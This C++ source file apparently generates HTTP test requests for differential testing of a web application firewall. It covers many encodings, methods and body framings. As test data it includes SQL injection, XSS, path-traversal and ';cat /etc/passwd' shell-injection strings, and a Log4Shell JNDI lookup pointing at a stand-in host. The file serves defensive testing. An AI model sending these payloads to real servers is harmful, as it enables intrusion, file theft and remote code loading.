#include "requests.h"

#include <fmt/format.h>
#include <zlib.h>

#include <algorithm>
#include <string_view>
#include <utility>

#include "../random/payloads.h"
#include "../random/random.h"
#include "parser/base/ascii.h"

namespace wafcheck::differential {
namespace {

using formats::Header;
using formats::Request;
using Headers = std::vector<Header>;

enum class Framing : uint8_t { none, length, chunked };

constexpr std::string_view kForm = "application/x-www-form-urlencoded";
constexpr std::string_view kMultipart = "multipart/form-data; boundary=Xb1";

std::string chunked(std::string_view body, Random& random) {
  std::string out;
  while (!body.empty()) {
    const std::string_view chunk = body.substr(0, random.between(1, 4000));
    body.remove_prefix(chunk.size());
    out += fmt::format("{:x}\r\n", chunk.size());
    out += chunk;
    out += "\r\n";
  }
  return out + "0\r\n\r\n";
}

std::string gzip(std::string_view bytes) {
  z_stream stream{};
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string out(bytes.size() + 100, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(bytes.data()));
  stream.avail_in = static_cast<uInt>(bytes.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

std::string part(std::string_view disposition, std::string_view value) {
  std::string text = fmt::format("--Xb1\r\nContent-Disposition: form-data; {}\r\n", disposition);
  if (disposition.find("filename") != std::string_view::npos) {
    text += "Content-Type: application/octet-stream\r\n";
  }
  return text.append("\r\n").append(value).append("\r\n");
}

/// Builds the list.
class List {
 public:
  explicit List(uint64_t seed) : random_(seed) {}

  void get(std::string name, std::string uri, Headers more = {}) {
    add(std::move(name), "GET", std::move(uri), std::move(more), {}, Framing::none);
  }
  void post(std::string name, std::string_view type, std::string body,
            Framing framing = Framing::length, Headers more = {}) {
    more.insert(more.begin(), {"Content-Type", std::string(type)});
    add(std::move(name), "POST", "/form?from=list", std::move(more), std::move(body), framing);
  }
  void add(std::string name, std::string method, std::string uri, Headers more, std::string body,
           Framing framing, std::string protocol = "HTTP/1.1") {
    Request request;
    request.method = std::move(method);
    request.uri = std::move(uri);
    request.protocol = std::move(protocol);
    request.headers = {{"Host", "www.example.com"},
                       {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"},
                       {"Accept", "text/html, */*;q=0.1"}};
    request.headers.insert(request.headers.end(), more.begin(), more.end());
    request.body = std::move(body);
    add(std::move(name), std::move(request), framing);
  }
  void add(std::string name, Request request, Framing framing) {
    if (framing == Framing::length) {
      request.headers.emplace_back("Content-Length", std::to_string(request.body.size()));
    } else if (framing == Framing::chunked) {
      request.headers.emplace_back("Transfer-Encoding", "chunked");
    }
    request.headers.emplace_back("Connection", "close");
    std::string wire = fmt::format("{} {} {}\r\n", request.method, request.uri, request.protocol);
    for (const auto& [field, value] : request.headers) {
      wire.append(field).append(": ").append(value).append("\r\n");
    }
    wire += "\r\n";
    wire += framing == Framing::chunked ? chunked(request.body, random_) : request.body;
    made_.push_back({std::move(name), std::move(request), std::move(wire)});
  }

  void gets();
  void methods();
  void forms();
  void documents();
  void multipart();
  void odd_bodies();
  void own_rules();
  void known();
  void payloads(size_t count, uint64_t seed);

  std::vector<AuditRequest> made_;

 private:
  Random random_;
};

void List::gets() {
  get("plain", "/");
  get("query", "/page?a=1&b=two&c=%20three");
  get("empty-values", "/page?a=&b&=c&&d==");
  get("percent", "/page%20two/%7Euser?x=%41%2f%252f%u0041&y=%zz%");
  get("nul-in-query", "/page?x=a%00b");
  get("latin-1-in-query", "/page?name=J%FCrgen");
  get("raw-latin-1", "/page?name=J\xFCrgen");
  get("utf-8", "/page?name=J%C3%BCrgen", {{"X-Name", "J\xC3\xBCrgen"}});
  get("quotes", "/page?q=\"a\"'b'\\c<d>|`{}");
  get("fragment-like", "/page?color=%23fff");
  get("long-query", "/page?text=" + std::string(6000, 'x'));
  get("many-arguments", [] {
    std::string uri = "/page?";
    for (int at = 0; at < 200; ++at) uri += fmt::format("a{}={}&", at, at);
    return uri;
  }());
  get("dots", "/a/./b/../c?file=../../etc/passwd");
  get("semicolons", "/page;v=1?a=1;b=2");
  get("two-cookies", "/", {{"Cookie", "a=1; b=two"}, {"Cookie", "c=three"}});
  get("cookie-with-quotes", "/", {{"Cookie", "a=\"x y\"; b=; =c; d"}});
  get("repeated-headers", "/", {{"X-Twice", "one"}, {"X-Other", "o"}, {"x-twice", "two"}});
  get("header-latin-1", "/", {{"X-City", "M\xFCnchen"}});
  get("header-empty", "/", {{"X-Empty", ""}});
  get("header-colons", "/", {{"X-Time", "12:30:00: noon"}});
  get("header-like-marker", "/", {{"X-Marker", "--deadbeef-A--"}, {"X-Z", "---aBcDeFgH---Z--"}});
  get("header-quotes", "/", {{"X-Json", R"({"a":"b\"c","d":["e\\"]})"}});
  get("header-tab", "/", {{"X-Tab", "a\tb"}});
  get("header-long", "/", {{"X-Long", std::string(4000, 'l')}});
  get("referer", "/", {{"Referer", "http://www.example.com/a?b=\"c\""}});
  get("agent-with-quote", "/", {{"X-Forwarded-For", "192.0.2.7"}, {"Via", "1.1 a \"b\""}});
  get("authorization", "/", {{"Authorization", "Basic dXNlcjpwYXNz"}});
  get("range", "/", {{"Range", "bytes=0-3"}});
  get("no-agent-words", "/", {{"Accept-Language", "de, en;q=0.5"}, {"Accept-Encoding", "gzip"}});
  get("leaking-page", std::string(kLeak) + "page?a=1");
  get("leaking-page-2", std::string(kLeak) + "other");
  get("sqli", "/page?id=1'%20or%20'1'='1");
  get("xss", "/page?q=<script>alert(1)</script>");
  get("xss-encoded", "/page?q=%3Csvg/onload=alert(1)%3E");
  get("traversal", "/page?f=..%2f..%2f..%2fetc%2fpasswd");
  get("shell", "/page?c=;cat%20/etc/passwd");
  get("log4j", "/", {{"X-Api", "${jndi:ldap://192.0.2.1/a}"}});
  get("scanner", "/", {{"X-Scanner", "sqlmap"}, {"Referer", "http://a/<script>x</script>"}});
  get("alert-in-value",
      "/page?q='%20)%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]%20union%20select%201,2--");
  get("alert-in-path", "/page\"]%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]?q=<script>");
  get("alert-in-name",
      "/page?x\"%5d%20%5bid%20\"7\"%5d=<script>alert(1)</"
      "script>&y%20[id%20\"8\"]=1'%20or%20'1'='1");
}

void List::methods() {
  add("head", "HEAD", "/page?a=1", {}, {}, Framing::none);
  add("options", "OPTIONS", "/page", {{"Origin", "http://a.example"}}, {}, Framing::none);
  add("put", "PUT", "/file.txt", {{"Content-Type", "text/plain"}}, "one\ntwo\r\nthree",
      Framing::length);
  add("put-chunked", "PUT", "/file.bin", {{"Content-Type", "application/octet-stream"}},
      std::string("\x89PNG\r\n\x1A\n\xFF\x01\x02", 11), Framing::chunked);
  add("delete", "DELETE", "/item/7", {}, {}, Framing::none);
  add("patch", "PATCH", "/item/7", {{"Content-Type", "application/json"}}, R"({"a":2})",
      Framing::length);
  add("unknown-method", "JUMP", "/", {}, {}, Framing::none);
  add("http-1.0", "GET", "/page?v=1", {}, {}, Framing::none, "HTTP/1.0");
  add("http-1.0-post", "POST", "/page", {{"Content-Type", std::string(kForm)}}, "a=1",
      Framing::length, "HTTP/1.0");
  add("get-with-body", "GET", "/page", {{"Content-Type", std::string(kForm)}}, "a=1&b=2",
      Framing::length);
  add("post-empty", "POST", "/form", {{"Content-Type", std::string(kForm)}}, "", Framing::length);
  add("post-no-type", "POST", "/form", {}, "plain words", Framing::length);
}

void List::forms() {
  post("form", kForm, "user=anna&text=some+words%21&empty=");
  post("form-chunked", kForm, "user=anna&text=" + std::string(9000, 'c'), Framing::chunked);
  post("form-ends-in-newline", kForm, "a=1&b=2\n");
  post("form-ends-in-newlines", kForm, "a=1&b=2\n\n\n");
  post("form-crlf", kForm, "a=1\r\nb=2\r\n\r\n");
  post("form-begins-with-newline", kForm, "\n\na=1");
  post("form-newline-alone", kForm, "\n");
  post("form-nul", kForm, std::string("a=1\0b=2&c=%00d", 14));
  post("form-latin-1", kForm, "name=J\xFCrgen&city=K%F6ln");
  post("form-charset", "application/x-www-form-urlencoded; charset=UTF-8", "a=\xC3\xBC&b=%C3%BC");
  post("form-backslashes", kForm, "path=C:\\x41\\xff&re=\\\\d+\\n");
  post("form-large", kForm, "text=" + std::string(40'000, 'y') + "&end=1");
  post("form-sqli", kForm, "id=1+union+select+password+from+users--");
  post("form-xss-newline", kForm, "q=%3Cscript%3E%0Aalert(1)%0A%3C/script%3E");
  post("form-many", kForm, [] {
    std::string body;
    for (int at = 0; at < 150; ++at) body += fmt::format("f{}=v{}&", at, at);
    return body;
  }());
}

void List::documents() {
  post("json", "application/json", R"({"user":"anna","n":[1,2.5,true,null],"o":{"k":"v"}})");
  post("json-escapes", "application/json", R"({"a":"q\"uote \\ \n \u00fc","b\"c":"\/"})");
  post("json-chunked", "application/json", R"({"list":[1,2,3],"text":"words"})", Framing::chunked);
  post("json-broken", "application/json", R"({"a":1,)");
  post("json-latin-1", "application/json", "{\"a\":\"J\xFCrgen\"}");
  post("json-attack", "application/json",
       R"({"q":"1' or '1'='1","r":"<script>alert(1)</script>"})");
  post("json-pretty", "application/json", "{\n  \"a\": 1,\n  \"b\": [\n    2\n  ]\n}\n");
  post("json-record-like", "application/json",
       "{\"transaction\":{\"time_stamp\":\"x\",\"request\":{\"method\":\"GET\",\"uri\":\"/\"}}}\n"
       "{\"transaction\":{\"unique_id\":\"y\"}}\n");
  post("xml", "text/xml", "<?xml version=\"1.0\"?>\n<a b=\"c\">text &amp; more<d/></a>\n");
  post("xml-application", "application/xml", "<r><i>1</i><i>2</i></r>");
  post("xml-broken", "text/xml", "<a><b></a>");
  post("xml-attack", "text/xml", "<a>1' or '1'='1</a>");
}

void List::multipart() {
  const std::string end = "--Xb1--\r\n";
  post("multipart", kMultipart, part("name=\"a\"", "1") + part("name=\"b\"", "two words") + end);
  post("multipart-file", kMultipart,
       part("name=\"title\"", "A file") +
           part("name=\"f\"; filename=\"a.bin\"", std::string("\x00\x01\xFF\r\n--X\n", 9)) + end);
  post("multipart-chunked", kMultipart,
       part("name=\"a\"", "1") + part("name=\"f\"; filename=\"t.txt\"", std::string(7000, 't')) +
           end,
       Framing::chunked);
  post("multipart-file-only", kMultipart,
       part("name=\"f\"; filename=\"a \\\"b\\\".txt\"", "text\n") + end);
  post("multipart-empty-field", kMultipart, part("name=\"a\"", "") + end);
  post("multipart-broken", kMultipart, part("name=\"a\"", "1"));
  post("multipart-line-feeds", kMultipart,
       "--Xb1\nContent-Disposition: form-data; name=\"a\"\n\n1\n--Xb1--\n");
  post("multipart-attack", kMultipart, part("name=\"a\"", "1' or '1'='1") + end);
  post("multipart-lines", kMultipart, part("name=\"a\"", "one\r\ntwo\nthree\r\n") + end);
}

void List::odd_bodies() {
  const std::string text(600, 'z');
  post("gzip", kForm, gzip("a=1&text=" + text), Framing::length, {{"Content-Encoding", "gzip"}});
  post("gzip-chunked", "application/json", gzip("{\"a\":\"" + text + "\"}"), Framing::chunked,
       {{"Content-Encoding", "gzip"}});
  std::string all_bytes;
  for (int byte = 1; byte < 256; ++byte) all_bytes += static_cast<char>(byte);
  post("all-bytes-but-nul", "application/octet-stream", all_bytes);
  post("all-bytes", "application/octet-stream", std::string(1, '\0') + all_bytes);
  post("all-bytes-form", kForm, "a=" + all_bytes);
  post("nul-at-end", kForm, std::string("a=1\0", 4));
  // A client can write what looks like records; the declared length tells that it is a body.
  const std::string connection =
      "[29/Nov/2026:10:00:00.000000 +0000] id1 192.0.2.1 1 192.0.2.2 80\n";
  post("markers-2", "text/plain",
       "--deadbeef-A--\n" + connection + "--deadbeef-B--\nGET /x HTTP/1.1\nHost: x\n\n" +
           "--deadbeef-Z--\n\n");
  post("markers-3", "text/plain",
       "---aBcDeFgH---A--\n" + connection + "---aBcDeFgH---B--\nGET /x HTTP/1.1\nHost: x\n\n" +
           "---aBcDeFgH---Z--\n\n");
  post("markers-unfinished", "text/plain", "--deadbeef-A--\n" + connection + "more");
  post("marker-alone", "text/plain", "a\n--deadbeef-Z--\nb\n--cafebabe-B--\n");
  post("json-lines", "text/plain", "{\"transaction\":{}}\n{\n}\n");
  post("trailer-like", "text/plain",
       "Message: Access denied with code 403 [id \"5\"]\nAction: Intercepted (phase 2)\n");
  post("text-large", "text/plain", [] {
    std::string body;
    for (int at = 0; at < 3000; ++at) body += fmt::format("line {}\n", at);
    return body;
  }());
}

/// What the rules that the writers have besides CRS's look for.
void List::own_rules() {
  for (const std::string_view what : {"noauditlog", "nolog", "deny-1", "deny-2", "redirect", "drop",
                                      "allow", "pass", "quotes", "deny-4", "chain", "twice"}) {
    get(fmt::format("own-{}", what), fmt::format("/page?own={}", what));
  }
  post("own-deny-in-form", kForm, "own=deny-2");
  post("own-allow-attack", kForm, "own=allow&id=1'+or+'1'%3d'1");
}

/// What the accepted deviations are shown by.
void List::known() {
  get("known-encoded-slash", "/a%2fb?x=1");
  get("known-above-the-root", "/../../etc/passwd");
  get("known-nul-in-cookie", "/", {{"Cookie", "q=4) <sVg><scRipt %00>alert&lpar"}});
  get("known-long-search", [] {
    std::string uri = "/page?q=1+or+1=(select+top+1+name+from+information_schema.tables+where+name";
    uri += "+not+in+('Articles'";
    for (int at = 0; at < 40; ++at) uri += fmt::format(",'Site_Forum_Table_{}'", at);
    return uri + "))--";
  }());
  get("known-quiet-denial", "/page?own=quiet-deny");
  post("known-header-in-field", kMultipart,
       part("name=\"a\"", "a\r\nSet-Cookie: b=1") + "--Xb1--\r\n");
}

/// Whether both servers take it as it stands.
bool is_plain(std::string_view value) {
  return trim(value) == value && std::ranges::none_of(value, [](char byte) {
           return static_cast<unsigned char>(byte) < 0x20 || byte == 0x7F;
         });
}

void List::payloads(size_t count, uint64_t seed) {
  size_t number = 0;
  // Some are left out.
  for (formats::Exchange& exchange : payload_requests(2 * count, seed)) {
    Request& request = exchange.request;
    const bool plain =
        is_plain(request.uri) && std::ranges::all_of(request.headers, [](const Header& header) {
          return is_plain(header.second);
        });
    if (!plain || number == count) continue;
    const bool posts = request.method == "POST";
    std::erase_if(request.headers,
                  [](const Header& field) { return field.first == "Content-Length"; });
    Framing framing = Framing::none;
    if (posts) framing = random_.percent(80) ? Framing::length : Framing::chunked;
    add(fmt::format("payload-{}", ++number), std::move(request), framing);
  }
}

}  // namespace

std::vector<AuditRequest> audit_requests(size_t payloads, uint64_t seed) {
  List list(seed);
  list.gets();
  list.methods();
  list.forms();
  list.documents();
  list.multipart();
  list.odd_bodies();
  list.own_rules();
  list.known();
  list.payloads(payloads, seed);
  return std::move(list.made_);
}

}  // namespace wafcheck::differential
